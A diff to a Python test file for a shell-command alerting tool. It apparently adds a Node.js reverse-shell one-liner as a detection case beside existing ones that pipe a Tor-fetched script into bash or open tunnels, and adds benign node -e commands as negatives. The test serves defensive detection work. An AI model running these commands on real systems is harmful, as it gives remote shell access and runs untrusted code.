@@ -61,6 +61,7 @@ def test_fetched_data_not_run(command):
     ("inlets-pro tcp client --url wss://203.0.113.5:8123 --upstream 127.0.0.1 --ports 22", "tunnelling_tool"),
     ("torify curl -s http://exampleonionaddress.onion/x.sh | bash", "remote_script_to_shell"),
     ("ssh -o ProxyCommand='ssh -W %h:%p jump@203.0.113.7' root@10.0.0.9", "ssh_dynamic_or_local_forward"),
+    ("node -e \"var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/bash',['-i']);var c=net.createConnection(9001,'198.51.100.20',function(){c.pipe(sh.stdin);sh.stdout.pipe(c)})\"", 'reverse_shell_interpreter'),
 ])
 def test_detected(command, rule):
     assert rule in alerts(command)
@@ -73,6 +74,8 @@ def test_detected(command, rule):
     "sudo zerotier-cli listnetworks",
     "printf 'Host x\\n  User git\\n' >> ~/.ssh/config",
     "printf 'server_addr = 10.0.0.5\\nworkers = 4\\n' > app.ini",
+    "node -e \"require('child_process').execSync('npm test', {stdio: 'inherit'})\"",
+    "node -e \"const net = require('net'); net.createServer(s => s.end('ok')).listen(8080)\"",
 ])
 def test_not_alerted(command):
     assert alerts(command) == set()
